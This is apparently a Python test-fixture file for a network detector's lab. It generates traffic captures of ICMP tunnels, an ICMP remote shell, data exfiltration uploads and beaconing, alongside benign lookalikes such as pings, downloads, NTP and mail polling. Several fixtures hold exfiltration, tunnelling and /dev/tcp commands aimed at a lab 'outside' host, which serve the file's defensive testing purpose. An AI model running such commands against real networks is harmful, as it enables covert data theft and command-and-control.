"""What leaves the network in hiding: ICMP tunnels, exfiltration, beacons; and uploads, downloads and polling that do not hide."""

import time

import services
from lab import OUTSIDE
from record import LOCAL, by, capture

ICMP, EXFIL, BEACON = ["icmp-tunnel"], ["data-exfiltration"], ["beaconing"]
LESS = [LOCAL, 'detect.data-exfiltration.min_bytes="1MB"']
MUCH = [LOCAL, 'detect.data-exfiltration.min_bytes="10MB"']
SOON = [LOCAL, "detect.beaconing.min_connections=15", 'detect.beaconing.min_span="15s"']
TLS = ["certificate-problem", "weak-tls"]


def tls_files(lab):
    """A key and a certificate that the laboratory's own authority signed, for www.example.com."""
    folder = lab.dir / "tls"
    if not folder.exists():
        folder.mkdir()
        lab.router.run(
            f"cd {folder}; openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout ca.key -out ca.crt -days 3650 -subj '/O=Lab/CN=Lab Root' 2>&1; "
            "openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout key -out csr -subj /CN=www.example.com 2>&1; "
            "printf 'subjectAltName=DNS:www.example.com,DNS:*.example.com\\n' > ext; "
            "openssl x509 -req -in csr -CA ca.crt -CAkey ca.key -CAcreateserial -days 90 -extfile ext -out leaf 2>&1; cat leaf ca.crt > crt")
    return folder / "crt", folder / "key", folder / "ca.crt"


def https(lab, host, more=""):
    crt, key, ca = tls_files(lab)
    host.start_tool("web.py", f"443 {crt} {key} {more}", wait=0.8)
    return f"curl -s -o /dev/null --cacert {ca} --resolve www.example.com:443:{OUTSIDE} --resolve files.example.com:443:{lab.server.v4}"


# --- ICMP


@capture("icmptunnel_ptunnel", "ptunnel: 8 kB up and 25 kB down of a TCP connection inside echo requests and replies",
         expect=[(ICMP, by("pc1", "outside"))], allow=["beaconing", "icmp-flood"])
def ptunnel(lab):
    lab.outside.sysctl("net.ipv4.icmp_echo_ignore_all=1")
    lab.outside.start("exec ptunnel", wait=0.5)
    lab.outside.start("while true; do head -c 25000 /dev/urandom | ncat -l 7000 >/dev/null; done", wait=0.3)
    yield
    lab.pc1.start(f"exec ptunnel -p {OUTSIDE} -lp 8000 -da {OUTSIDE} -dp 7000", wait=1)
    lab.pc1.run("(head -c 8000 /dev/urandom; sleep 4) | timeout 6 ncat 127.0.0.1 8000 >/dev/null", timeout=10)
    yield
    lab.outside.sysctl("net.ipv4.icmp_echo_ignore_all=0")


@capture("icmptunnel_shell", "a remote shell in echo messages (tools/icmp_shell.py, a stand-in): commands in the replies, their output in the requests",
         expect=[(ICMP, by("pc2", "outside"))], allow=["beaconing"])
def shell(lab):
    lab.outside.sysctl("net.ipv4.icmp_echo_ignore_all=1")
    lab.outside.start_tool("icmp_shell.py", "master")
    yield
    lab.pc2.tool("icmp_shell.py", f"agent {OUTSIDE} 40", timeout=40)
    yield
    lab.outside.sysctl("net.ipv4.icmp_echo_ignore_all=0")


@capture("icmptunnel_upload_nping", "a file sent in echo requests with nping: 30 with 480 other bytes each, mirrored by the outside host",
         expect=[(ICMP, by("pc3", "outside"))], allow=["icmp-flood", "data-exfiltration"])
def nping(lab):
    yield
    for n in range(30):
        lab.pc3.run(f"nping --icmp -c 1 --data $(head -c 480 /dev/urandom | od -An -v -tx1 | tr -d ' \\n') {OUTSIDE} >/dev/null 2>&1 &")
        time.sleep(0.03)
    time.sleep(1.5)


@capture("icmptunnel_ipv6", "echo messages of ICMPv6 with 400 to 1,000 bytes of ciphertext both ways, 36 (tools/icmp_shell.py)",
         expect=[(ICMP, by("mac", more=["2001:db8:ffff::10"]))], allow=["beaconing"])
def six(lab):
    lab.outside.sysctl("net.ipv6.icmp.echo_ignore_all=1")
    lab.outside.start_tool("icmp_shell.py", "master6")
    yield
    lab.mac.tool("icmp_shell.py", "agent6 2001:db8:ffff::10 36", timeout=40)
    yield
    lab.outside.sysctl("net.ipv6.icmp.echo_ignore_all=0")


@capture("quiet_ping_large", "ping -s 1400, 6 requests; ping with patterns; ping -s 8 without room for a time")
def large(lab):
    yield
    lab.pc1.run(f"ping -q -i 0.1 -s 1400 -c 6 {OUTSIDE}; ping -q -i 0.1 -s 600 -p deadbeef -c 15 {OUTSIDE}; "
                f"ping -q -i 0.1 -s 8 -c 10 {lab.server.v4}", timeout=20)


@capture("quiet_ping_windows", "echo requests as Windows sends them: 32 bytes of the alphabet, one a second, 12; fping and nmap beside it")
def windows(lab):
    yield
    lab.pc2.tool("windows_ping.py", f"{OUTSIDE} 12 1")
    lab.pc3.run(f"fping -q -c 10 -p 100 -b 56 {OUTSIDE} {lab.server.v4}; nmap -n -sn -PE --disable-arp-ping {OUTSIDE} >/dev/null")


@capture("quiet_path_mtu", "path MTU probing: pings with DF from 1,200 to 1,472 bytes and back; some do not fit")
def mtu(lab):
    lab.router.ip("link set wan0 mtu 1400")
    yield
    lab.pc1.run("for s in 1200 1472 1336 1404 1370 1387 1378 1374 1372 1373; do "
                f"ping -q -M do -W 1 -c 2 -i 0.2 -s $s {OUTSIDE}; ip route flush cache; done", timeout=40)
    yield
    lab.router.ip("link set wan0 mtu 1500")


# --- uploads


@capture("exfil_curl_https_30MB", "curl uploads 30 MB by HTTPS; segments of 64 kB, as a capture on a host with offloads shows them",
         expect=[(EXFIL, by("pc1"))], allow=["traffic-spike"] + TLS, set=MUCH, snap=60, packets=2500)
def curl(lab):
    offloads(lab, "on")
    curl = https(lab, lab.outside)
    lab.pc1.run(f"head -c 30000000 /dev/urandom > {lab.dir}/big")
    yield
    lab.pc1.run(f"{curl} -T {lab.dir}/big https://www.example.com/upload", timeout=40)
    yield
    offloads(lab, "off")


def offloads(lab, state):
    for host, device in ((lab.pc1, "eth0"), (lab.pc2, "eth0"), (lab.pc3, "eth0"), (lab.server, "eth0"), (lab.router, "eth0"), (lab.router, "wan0"), (lab.outside, "eth0")):
        host.run(f"ethtool -K {device} tso {state} gso {state} gro {state} tx {state}")


@capture("exfil_http_post_1MB", "curl posts 1.1 MB over plain HTTP, once; segments of 64 kB",
         expect=[(EXFIL, by("pc2"))], allow=["traffic-spike"], set=LESS, snap=72)
def post(lab):
    offloads(lab, "on")
    lab.outside.start_tool("web.py", "80", wait=0.8)
    yield
    lab.pc2.run(f"head -c 1100000 /dev/urandom | curl -s -o /dev/null --data-binary @- http://{OUTSIDE}/drop", timeout=20)
    yield
    offloads(lab, "off")


@capture("exfil_small_posts", "26 posts of 41 kB each by HTTPS, three a second, each a connection; segments of up to 64 kB",
         expect=[(EXFIL + BEACON, by("pc3"))], allow=["beaconing", "data-exfiltration"] + TLS, set=LESS, snap=60)
def posts(lab):
    offloads(lab, "on")
    curl = https(lab, lab.outside)
    yield
    lab.pc3.run(f"head -c 41000 /dev/urandom > {lab.dir}/piece; for n in $(seq 26); do "
                f"{curl} --data-binary @{lab.dir}/piece https://www.example.com/api/v2/sync; sleep 0.25; done", timeout=90)
    yield
    offloads(lab, "off")


@capture("exfil_raw_tcp_ipv6", "1.05 MB by ncat over IPv6 to a host outside",
         expect=[(EXFIL, by("pi"))], allow=["traffic-spike"], set=LESS, snap=60)
def six_upload(lab):
    lab.outside.run("ethtool -K eth0 gro on")  # fewer acknowledgements
    lab.outside.start("exec ncat -6 -l 4444 --recv-only > /dev/null", wait=0.4)
    yield
    lab.pi.run("head -c 1050000 /dev/urandom | timeout 10 ncat -6 --send-only 2001:db8:ffff::10 4444", timeout=15)
    yield
    lab.outside.run("ethtool -K eth0 gro off")


@capture("exfil_scp", "scp copies 1.3 MB to a host outside; segments of 64 kB",
         expect=[(EXFIL, by("pc1"))], allow=["traffic-spike"], set=LESS, snap=128)
def scp(lab):
    offloads(lab, "on")
    options, key = services.sshd(lab, lab.outside)
    lab.pc1.run(f"head -c 1300000 /dev/urandom > {lab.dir}/archive; cp {key} {lab.dir}/key; chmod 600 {lab.dir}/key")
    yield
    lab.pc1.run(f"scp -i {lab.dir}/key {options} {lab.dir}/archive anna@{OUTSIDE}:/dev/null", timeout=20)
    yield
    offloads(lab, "off")


@capture("quiet_big_download", "curl fetches 10.5 MB by HTTPS; segments of 64 kB", allow=TLS, set=MUCH, snap=66, packets=2500)
def download(lab):
    offloads(lab, "on")
    curl = https(lab, lab.outside)
    yield
    lab.pc1.run(f"{curl} https://www.example.com/10500000", timeout=40)
    yield
    offloads(lab, "off")


@capture("quiet_upload_local", "curl uploads 10.5 MB to a server of the network itself", allow=TLS, set=MUCH, snap=66, packets=2500)
def local(lab):
    offloads(lab, "on")
    curl = https(lab, lab.server)
    lab.pc1.run(f"head -c 10500000 /dev/urandom > {lab.dir}/big")
    yield
    lab.pc1.run(f"{curl} -T {lab.dir}/big https://files.example.com/backup", timeout=40)
    yield
    offloads(lab, "off")


@capture("quiet_photo_upload", "a photo of 250 kB is sent to a service outside", allow=TLS, set=LESS, snap=72)
def photo(lab):
    curl = https(lab, lab.outside)
    yield
    lab.mac.run(f"head -c 250000 /dev/urandom > {lab.dir}/photo; {curl} -T {lab.dir}/photo https://www.example.com/photos/1; "
                f"{curl} https://www.example.com/120000", timeout=20)


# --- beacons


@capture("beacon_https_jitter", "an HTTPS request every 2 s, a fifth more or less, 18 times",
         expect=[(BEACON, by("pc1"))], allow=TLS, set=SOON, snap=300)
def jitter(lab):
    curl = https(lab, lab.outside)
    yield
    lab.pc1.run(f"for n in $(seq 18); do {curl} https://www.example.com/news; "
                "sleep $(awk -v s=$RANDOM 'BEGIN { print 1.6 + 0.8 * s / 32768 }'); done", timeout=90)


@capture("beacon_http_post", "a small HTTP POST every 1.5 s, 24 times, always the same size",
         expect=[(BEACON, by("pc2"))], set=SOON)
def http_post(lab):
    lab.outside.start_tool("web.py", "80", wait=0.8)
    yield
    lab.pc2.run(f"for n in $(seq 24); do curl -s -o /dev/null -A Mozilla/5.0 -d id=7f3c9a2b1d http://{OUTSIDE}/40; sleep 1.47; done", timeout=60)


@capture("beacon_raw_tcp", "a raw TCP connection every 3 s, 48 bytes, 18 times", expect=[(BEACON, by("pc3"))], set=SOON)
def raw(lab):
    lab.outside.start_tool("listeners.py", "8443")
    yield
    lab.pc3.tool("connect.py", f"-r 18 -p 3 -s 48 {OUTSIDE}:8443", timeout=80)


@capture("beacon_dns", "one short DNS question with a number each 2.5 s, 22 times, the answer says sleep",
         expect=[(BEACON + ["dns-tunnel"], by("mac"))], allow=["dns-tunnel"], set=SOON)
def dns(lab):
    from kinds.names import resolver
    lab.outside.start_tool("dns_server.py", f"{OUTSIDE} antivirus")
    resolver(lab, f"server=/cdn-status.example.net/{OUTSIDE}")
    yield
    for n in range(22):
        (lab.dir / "one").write_text(f"A {n:02x}4f1c.cdn-status.example.net\n")
        lab.mac.tool("dns_ask.py", f"192.168.50.1 0 {lab.dir}/one")
        time.sleep(2.3)


@capture("beacon_long_connection", "a packet of 60 bytes every 2 s in one connection that stays open, 24 times",
         expect=[], allow=BEACON, set=SOON)
def heartbeat(lab):
    lab.outside.start_tool("listeners.py", "8443")
    yield
    lab.pi.run(f"timeout 52 bash -c 'exec 3<>/dev/tcp/{OUTSIDE}/8443; for n in $(seq 24); do printf %060d $n >&3; sleep 2; done'", timeout=60)


@capture("quiet_ntp_polls", "chronyd polls two time servers outside every two seconds for a minute", set=SOON)
def ntp(lab):
    lab.outside.start_tool("ntp_server.py", "203.0.113.80 203.0.113.81")
    conf = lab.dir / "chrony.conf"
    conf.write_text(f"server 203.0.113.80 minpoll 1 maxpoll 1\nserver 203.0.113.81 minpoll 1 maxpoll 1\ncmdport 0\npidfile {lab.dir}/chronyd.pid\n")
    yield
    lab.pc1.run(f"timeout 60 chronyd -x -d -U -f {conf}", timeout=65)


@capture("quiet_mail_poller", "a mail client looks into a mailbox outside every 3 s, 17 times, STARTTLS first: a poller, and one can see what for",
         allow=["certificate-problem"], set=SOON, snap=100)
def poller(lab):
    services.dovecot(lab, lab.outside)
    yield
    for _ in range(17):
        lab.pc2.run(f"curl -s -k --ssl-reqd imap://{OUTSIDE}/INBOX -u anna:{services.PASSWORD} -X 'STATUS INBOX (MESSAGES UNSEEN)'")
        time.sleep(2.7)


@capture("quiet_browsing", "a person browses: bursts of requests with pauses of one to nine seconds, a minute long", allow=TLS, set=SOON, snap=90)
def browsing(lab):
    curl = https(lab, lab.outside)
    yield
    lab.pc1.run("RANDOM=7; end=$((SECONDS+60)); while [ $SECONDS -lt $end ]; do for n in $(seq $((1 + RANDOM % 4))); do "
                f"{curl} https://www.example.com/$((RANDOM % 9000)) & done; wait; sleep $((1 + RANDOM % 9)); done", timeout=90)
